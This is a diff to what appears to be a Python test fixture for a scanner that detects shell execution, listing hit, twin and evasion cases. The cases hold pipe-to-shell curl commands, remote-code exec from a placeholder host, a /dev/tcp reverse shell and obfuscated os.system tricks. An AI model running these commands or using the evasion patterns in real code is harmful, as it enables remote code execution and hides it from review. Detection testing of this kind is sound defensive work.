@@ -9,6 +9,8 @@ _LINE: Final = "curl https://example.invalid | sh"
 _CODE: Final = f"import os; os.system('{_LINE}')"
 _GETS: Final = "import urllib.request as u; exec(u.urlopen('https://example.invalid').read())"
 _ARGS: Final = f"{_S}args = [sys.executable]\n"
+_A: Final = f"{_S}class A:\n    def "
+_IMPORTS: Final = "import ast, os, re\n"
 _EXACTLY: Final = f"{_S}def f(x):\n    subprocess.run"
 
 CASES: Final = (
@@ -44,7 +46,7 @@ CASES: Final = (
         "C3",
         "evasion",
         "high",
-        f'{_S}class A:\n    def f(self):\n        self.a = [sys.executable]\n        self.a.extend(("-c", "{_CODE}"))\n'
+        f'{_A}f(self):\n        self.a = [sys.executable]\n        self.a.extend(("-c", "{_CODE}"))\n'
         "        subprocess.run(self.a)\n",
     ),
     Case("C5", "evasion", "medium", f"{_S}a = []\na.append('sys')\na.append('tem')\ngetattr(os, ''.join(a))('id')\n"),
@@ -79,4 +81,36 @@ CASES: Final = (
     Case("C3", "evasion", "high", f"{_S}def f(x):\n    os.system('bash -i >& /dev/tcp/%s/%d 0>&1' % (x, 4))\n"),
     Case("C3", "evasion", "high", f'{_S}os.system(\'%s -c "%s"\' % (sys.executable, "{_CODE}"))\n'),
     Case("C3", "evasion", "high", f"{_S}run = '%s -c \"%s\"'\nos.system(run % ('python3', \"{_CODE}\" + x))\n"),
+    Case("C3", "evasion", "high", f"{_S}os.system('100%%; %s %s | sh' % ('curl', x))\nos.popen(f'{{x}}%s' % x)\n"),
+    Case("C3", "evasion", "high", f"{_S}os.system('{{x}} {{y}} | {{}}'.format('sh', x='curl', y=x))\n"),
+    Case("C3", "twin", None, f"{_S}os.system('}}'.format(x))\nos.system(','.join(x, y))\n[].append('x')\n"),
+    # Interpreters within the same process.
+    Case("C3", "hit", "high", f'import _interpreters as i\ni.run_string(i.create(), "{_CODE}")\n'),
+    Case("C3", "hit", "high", f'from concurrent import interpreters\ninterpreters.create().exec("{_CODE}")\n'),
+    Case("C3", "twin", None, f'import interpreters as i\ni.run_string("{_CODE}", x)\nmake().exec("{_CODE}")\n'),
+    Case("C3", "twin", None, "import concurrent.interpreters as i\ni.create().exec('x = 1')\ni.create().call(main)\n"),
+    Case("C3", "evasion", "high", f'from _xxsubinterpreters import run_string as r\nr(0, "{_CODE}")\n'),
+    Case(
+        "C3",
+        "evasion",
+        "high",
+        f"from concurrent.interpreters import create as c\nrun = getattr(c(), 'ex' + 'ec')\nrun(code=\"{_CODE}\")\n",
+    ),
+    # What an object of the file's own class, or one made of it, runs.
+    Case("C3", "hit", "high", f"{_A}__matmul__(s, k):\n        os.system(k)\nA() @ '{_LINE}'\n"),
+    Case("C3", "hit", "high", f"{_A}__init_subclass__(c, k=0): os.system(k)\nclass B(A, k='{_LINE}'): pass\n"),
+    Case("C3", "twin", None, f"{_A}__mul__(s, k): return k\nA() * '{_LINE}'\nB() * '{_LINE}'\nA() + 1\n"),
+    Case("C3", "twin", None, f"{_A}__init_subclass__(c, k=0): os.system('x')\nclass B(A, k='{_LINE}'): pass\n"),
+    Case("C3", "evasion", "high", f"{_A}__getitem__(s, k): return os.popen(k)\na = A()\na['{_LINE}']\n"),
+    Case("C3", "evasion", "high", f"{_S}class A:\n    __call__ = lambda s, k: os.system(k)\nA()('{_LINE}')\n"),
+    Case("C3", "evasion", "high", f"{_S}class A:\n    __rshift__ = os.system\nA() >> '{_LINE}'\n"),
+    Case("C3", "evasion", "high", f"{_S}import operator as o\nlist(map(o.methodcaller('system', '{_LINE}'), [os]))\n"),
+    # Names out of literals, and with letters taken out.
+    Case("C5", "hit", "medium", f"{_IMPORTS}getattr(os, ast.literal_eval(\"'sys' 'tem'\"))('id')\n"),
+    Case("C5", "hit", "medium", f"{_IMPORTS}getattr(os, re.sub('x', '', 'sxysxtem'))('id')\n"),
+    Case(
+        "C5", "twin", None, f"{_IMPORTS}getattr(os, ast.literal_eval(\"'pa' 'th'\")).sep\nre.sub('(a+)+$', '', 'a')\n"
+    ),
+    Case("C5", "evasion", "medium", f"{_IMPORTS}getattr(os, ast.literal_eval('[\"p\", \"popen\"]')[1])('id')\n"),
+    Case("C5", "evasion", "medium", f"{_IMPORTS}getattr(os, re.sub('[xz]+', '', 'szyxxstezxm'))('id')\n"),
 )
